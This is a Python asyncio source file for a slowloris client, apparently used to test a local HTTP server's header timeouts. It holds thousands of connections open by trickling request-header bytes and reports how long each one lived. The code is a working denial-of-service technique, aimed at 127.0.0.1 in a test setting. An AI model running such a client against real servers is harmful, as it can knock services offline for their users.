"""tools/slowloris's attacking client (asyncio, standard library only).

Keeps --conns connections open to an HTTP server, each sending the start
of a request head one byte every --interval seconds and never its end:
"GET / HTTP/1.1\\r\\nHost: ...\\r\\nX-Slow: aaaa..." (the head stays far
below any header size limit). A connection ends when the server answers
or closes; it is then opened again at once, so that --conns stay open,
until SIGUSR1: from then on none is opened, and once every open one has
ended (or --max-wait seconds have passed) it prints one JSON object with
every connection's outcome and how long it lived, and exits.

The connections are first opened over --ramp seconds, so that their
deadlines (and their replacements') are spread evenly; a line
{"ready": ...} on stdout says that all of them are open.

    slowloris_client.py --port P --conns N [--interval S] [--ramp S] [--max-wait S]
"""
import argparse
import asyncio
import json
import signal
import sys
import time

HOST = "127.0.0.1"


class Slow(asyncio.Protocol):
    """One connection: a byte at a time until the server answers or closes."""

    def __init__(self, owner, started):
        self.owner = owner
        self.transport = None
        self.started = started  # before the connect: the server accepts later
        self.sent = 0
        self.head = b""
        self.timer = None
        self.done = False

    def connection_made(self, transport):
        self.transport = transport
        self.owner.opened(self)
        self.send_next()

    def send_next(self):
        if self.done:
            return
        text = self.owner.text
        i = self.sent if self.sent < len(text) else len(text) - 1  # then "a" for ever
        self.transport.write(text[i:i + 1])
        self.sent += 1
        self.timer = asyncio.get_running_loop().call_later(self.owner.interval, self.send_next)

    def data_received(self, data):
        if self.done:
            return
        self.head += data
        if b"\r\n" in self.head or len(self.head) >= 64:
            line = self.head.split(b"\r\n", 1)[0]
            parts = line.split(b" ")
            status = parts[1].decode(errors="replace") if len(parts) > 1 else "?"
            self.finish(status if line.startswith(b"HTTP/1.") else "garbage")

    def eof_received(self):
        self.finish("eof" if not self.head else "partial")
        return False

    def connection_lost(self, exc):
        self.finish("reset" if exc is not None else "eof")

    def finish(self, outcome):
        if self.done:
            return
        self.done = True
        if self.timer:
            self.timer.cancel()
        lived = time.monotonic() - self.started
        self.transport.close()
        self.owner.ended(self, outcome, lived)


class Client:
    def __init__(self, args):
        self.args = args
        self.interval = args.interval
        host = f"{HOST}:{args.port}"
        self.text = f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: a".encode()
        self.open_now = 0
        self.max_open = 0
        self.stopping = False
        self.outcomes = {}
        # Seconds from the start of each connect to the server's answer or
        # close: at least the server's limit, which runs from its accept.
        self.lived = []
        self.bytes = []
        self.connect_errors = {}
        self.all_ended = asyncio.Event()

    def opened(self, conn):
        self.open_now += 1
        self.max_open = max(self.max_open, self.open_now)

    def ended(self, conn, outcome, lived):
        self.open_now -= 1
        self.outcomes[outcome] = self.outcomes.get(outcome, 0) + 1
        self.lived.append(round(lived, 4))
        self.bytes.append(conn.sent)
        if not self.stopping:
            asyncio.get_running_loop().create_task(self.connect())
        elif self.open_now == 0:
            self.all_ended.set()

    async def connect(self):
        loop = asyncio.get_running_loop()
        while not self.stopping:
            try:
                started = time.monotonic()
                await loop.create_connection(lambda: Slow(self, started), HOST, self.args.port)
                return
            except OSError as e:
                key = e.strerror or str(e)
                self.connect_errors[key] = self.connect_errors.get(key, 0) + 1
                await asyncio.sleep(0.05)

    async def run(self):
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGUSR1, self.stop)
        loop.add_signal_handler(signal.SIGTERM, self.stop)
        start = time.monotonic()
        n = self.args.conns
        for i in range(n):
            due = start + self.args.ramp * i / n
            delay = due - time.monotonic()
            if delay > 0:
                await asyncio.sleep(delay)
            if self.stopping:
                break
            loop.create_task(self.connect())
        while self.open_now + sum(self.outcomes.values()) < n and not self.stopping:
            await asyncio.sleep(0.01)
        print(json.dumps({"ready": {"open": self.open_now, "after_s": round(time.monotonic() - start, 2)}}),
              flush=True)
        await self.stopped.wait()
        if self.open_now > 0:
            try:
                await asyncio.wait_for(self.all_ended.wait(), self.args.max_wait)
            except asyncio.TimeoutError:
                pass
        print(json.dumps({"result": {
            "conns": n, "interval_s": self.interval, "ended": len(self.lived),
            "still_open": self.open_now, "max_open": self.max_open, "outcomes": self.outcomes,
            "connect_errors": self.connect_errors, "lived_s": self.lived,
            "bytes_max": max(self.bytes, default=0)}}), flush=True)

    def stop(self):
        self.stopping = True
        self.stopped.set()
        if self.open_now == 0:
            self.all_ended.set()


async def main():
    p = argparse.ArgumentParser(prog="slowloris_client.py")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=5000)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--ramp", type=float, default=10.0)
    p.add_argument("--max-wait", type=float, default=60.0)
    client = Client(p.parse_args())
    client.stopped = asyncio.Event()
    await client.run()


if __name__ == "__main__":
    asyncio.run(main())
    sys.exit(0)
